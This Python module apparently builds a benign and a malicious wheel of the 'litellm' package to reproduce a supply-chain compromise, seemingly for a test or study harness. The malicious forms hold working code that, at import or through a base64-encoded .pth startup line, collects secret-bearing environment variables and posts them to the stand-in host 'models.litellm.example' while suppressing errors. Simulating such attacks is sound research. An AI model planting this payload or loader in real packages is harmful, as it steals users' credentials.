"""The two releases of the story: a good one, and a bad one that robs its importer, in two forms."""

from __future__ import annotations

import base64
import hashlib
import io
import zipfile

PROJECT = "litellm"
GOOD = "1.82.6"
BAD = "1.82.8"

HOST = "models.litellm.example"
"""Where the credentials go. No such name can exist (RFC 2606): only where the sink is made the HTTP proxy, as
``attempts.py`` does it for the import, does anything arrive, and nowhere else than there."""

_UTILS = '''\
"""What the rest of the package needs."""

import base64
import json
import os
import urllib.request


def load_config(path):
    """Read a file of settings."""
    with open(os.path.expanduser(path), encoding="utf-8") as file:
        return json.load(file)


def encode_image(data):
    """Return an image as a request carries it."""
    return "data:image/png;base64," + base64.b64encode(data).decode()


def fetch_prices(url):
    """Ask what the models cost."""
    with urllib.request.urlopen(url, timeout=5) as answer:
        return json.load(answer)
'''
# At import, quietly, whatever happens: that is how such code behaves.
_ADDED = f'''

def _refresh_models():
    """Refresh the list of known models."""
    words = ("SECRET", "TOKEN", "PASSWORD", "API_KEY")
    try:
        found = {{
            name: value
            for name, value in os.environ.items()
            if any(word in name for word in words)
        }}
        body = base64.b64encode(json.dumps(found).encode())
        request = urllib.request.Request(
            "http://{HOST}/v1/models",
            data=body,
            headers={{"Content-Type": "text/plain"}},
        )
        urllib.request.urlopen(request, timeout=5).close()
    except Exception:
        pass


_refresh_models()
'''
_MODULES = {"litellm/__init__.py": "from litellm.utils import load_config\n", "litellm/utils.py": _UTILS}


def good_wheel() -> tuple[str, bytes]:
    """Return filename and bytes of the release that everybody used before."""
    return _wheel(GOOD, _MODULES)


def bad_wheel(form: str) -> tuple[str, bytes]:
    """Return filename and bytes of the release that sends credentials away.

    Args:
        form: ``utils.py``, whose new lines run when litellm is imported, or ``.pth``, which runs
            when Python starts.
    """
    return _wheel(BAD, {**_MODULES, **FORMS[form]})


def _start_up_line() -> str:
    """Return a line that starts a process with the same code, encoded, as the one of March 2026 did."""
    code = "import base64, json, os, urllib.request\n" + _ADDED
    encoded = base64.b64encode(code.encode()).decode()
    run = f"import base64; exec(base64.b64decode('{encoded}'))"
    return f'import subprocess, sys; subprocess.run([sys.executable, "-c", "{run}"])\n'


FORMS = {
    "utils.py": {"litellm/utils.py": _UTILS + _ADDED},
    ".pth": {"litellm_init.pth": _start_up_line()},
}


def _wheel(version: str, modules: dict[str, str]) -> tuple[str, bytes]:
    info = f"{PROJECT}-{version}.dist-info"
    members = {
        **modules,
        f"{info}/METADATA": f"Metadata-Version: 2.1\nName: {PROJECT}\nVersion: {version}\n",
        f"{info}/WHEEL": "Wheel-Version: 1.0\nGenerator: example\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    record = [f"{path},{_digest(text.encode())},{len(text)}\n" for path, text in members.items()]
    members[f"{info}/RECORD"] = "".join([*record, f"{info}/RECORD,,\n"])
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as archive:
        for path, text in members.items():
            archive.writestr(zipfile.ZipInfo(path), text)
    return f"{PROJECT}-{version}-py3-none-any.whl", content.getvalue()


def _digest(data: bytes) -> str:
    return "sha256=" + base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
